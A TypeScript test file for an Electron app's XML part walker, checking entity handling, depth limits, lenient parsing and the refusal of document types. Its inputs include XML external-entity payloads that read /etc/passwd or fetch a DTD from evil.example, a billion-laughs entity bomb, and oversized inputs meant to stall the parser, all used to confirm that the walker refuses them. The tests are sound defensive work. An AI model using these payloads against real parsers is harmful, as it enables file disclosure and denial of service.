import { expect, test } from 'vitest';
import { walkXml, type XmlOptions } from '../../../electron/import/xml';
import { xhtmlEntities } from '../../../electron/import/xhtmlEntities';
import { Failure } from '../../../shared/ipc/failure';
import { processorTime } from '../../support/processorTime';

/** What is told while a part is walked. */
function walked(xml: string, options: XmlOptions = {}): string[] {
  const told: string[] = [];
  const fault = walkXml(
    xml,
    {
      open: ({ name, attributes }) => told.push(`<${name} ${JSON.stringify(attributes)}`),
      close: ({ name }) => told.push(`/${name}`),
      text: (words) => told.push(words),
    },
    { name: 'debate.docx', part: 'a.xml' },
    options,
  );
  return fault === null ? told : [...told, 'fault'];
}

function refusal(xml: string, options: XmlOptions = {}): string {
  const time = processorTime();
  try {
    walked(xml, options);
    return 'it was read';
  } catch (error) {
    if (!(error instanceof Failure)) throw error;
    expect(time()).toBeLessThan(2000);
    expect(error.message).toContain('“debate.docx” was not imported');
    return error.message;
  }
}

test('Elements, attributes and text are told in their order', () => {
  expect(
    walked('<?xml version="1.1"?><a:b c="&quot;1&#10;"><d/>x &amp; &#x1F600;<![CDATA[<y>]]></a:b>'),
  ).toEqual(['<a:b {"c":"\\"1\\n"}', '<d {}', '/d', 'x & 😀', '<y>', '/a:b']);
});

test('Named characters of XHTML are known where they are asked for', () => {
  expect(xhtmlEntities).toMatchObject({
    nbsp: '\u00A0',
    eacute: 'é',
    yuml: 'ÿ',
    mdash: '—',
    hellip: '…',
    euro: '€',
    Omega: 'Ω',
    diams: '♦',
  });
  expect(Object.keys(xhtmlEntities)).toHaveLength(248);
  expect(walked('<p>a&nbsp;b</p>', { entities: xhtmlEntities })).toEqual([
    '<p {}',
    'a\u00A0b',
    '/p',
  ]);
  expect(refusal('<p>a&nbsp;b</p>')).toContain('its part “a.xml” is damaged');
});

test('A document type is refused, except one that defines nothing where books have it', () => {
  const plain = [
    '<!DOCTYPE html>',
    '<!doctype html>',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd">',
    "<!DOCTYPE ncx SYSTEM 'file:///etc/passwd'>",
  ];
  for (const doctype of plain) {
    expect(walked(`${doctype}<a>x</a>`, { doctype: true })).toEqual(['<a {}', 'x', '/a']);
    expect(refusal(`${doctype}<a>x</a>`)).toContain('DOCTYPE');
    expect(refusal(`${doctype}${doctype}<a>x</a>`, { doctype: true })).toContain('DOCTYPE');
  }
  const defining = [
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><a/>',
    '<!DOCTYPE a []><a/>',
    '<!doctype a SYSTEM "x" [<!entity l "lol">]><a>&l;</a>',
    `<!DOCTYPE a [<!ENTITY l0 "lol">${Array.from({ length: 20 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')}]><a>&l20;</a>`,
  ];
  for (const xml of defining) {
    expect(refusal(xml)).toContain('DOCTYPE');
    expect(refusal(xml, { doctype: true, lenient: true })).toContain('DOCTYPE');
  }
});

test('What is nested too deep is refused, and what is nested less is read', () => {
  const nested = (depth: number) => `${'<a>'.repeat(depth)}x${'</a>'.repeat(depth)}`;
  expect(walked(nested(256))).toHaveLength(513);
  expect(refusal(nested(257))).toContain('nested more than 256 levels deep');
  expect(refusal('<a>'.repeat(40_000))).toContain('nested more than 256 levels deep');
  expect(refusal('<a>'.repeat(40_000), { lenient: true })).toContain('levels deep');
});

test('A part with faults is refused, or walked on without losing words', () => {
  const faulty = '<a><p>one <b>two</p><p>three &c; & four</p></div><p class=x>five</p>';
  expect(refusal(faulty)).toContain('its part “a.xml” is damaged');
  const told = walked(faulty, { lenient: true });
  expect(told.at(-1)).toBe('fault');
  for (const word of ['one', 'two', 'three', 'four', 'five'])
    expect(told.join(' ')).toContain(word);
});

const endless: Record<string, string> = {
  comments: `<a>${'<!--'.repeat(300_000)}`,
  'opening brackets': `<a>${'<'.repeat(300_000)}`,
  'closing tags': `<a>${'</b>'.repeat(300_000)}`,
  ampersands: `<a>${'&'.repeat(1_000_000)}`,
  'sections of characters': `<a>${'<![CDATA['.repeat(300_000)}`,
  instructions: `<a>${'<?x '.repeat(300_000)}`,
  digits: `<a>&#${'1'.repeat(1_000_000)};</a>`,
  'a document type': `<!DOCTYPE a PUBLIC ${'"" '.repeat(300_000)}`,
  'white space in a document type': `<!DOCTYPE a${' '.repeat(1_000_000)}`,
};

test.each(Object.entries(endless))('No %s make the walk take long', (_, xml) => {
  refusal(xml);
  refusal(xml, { lenient: true, doctype: true });
});
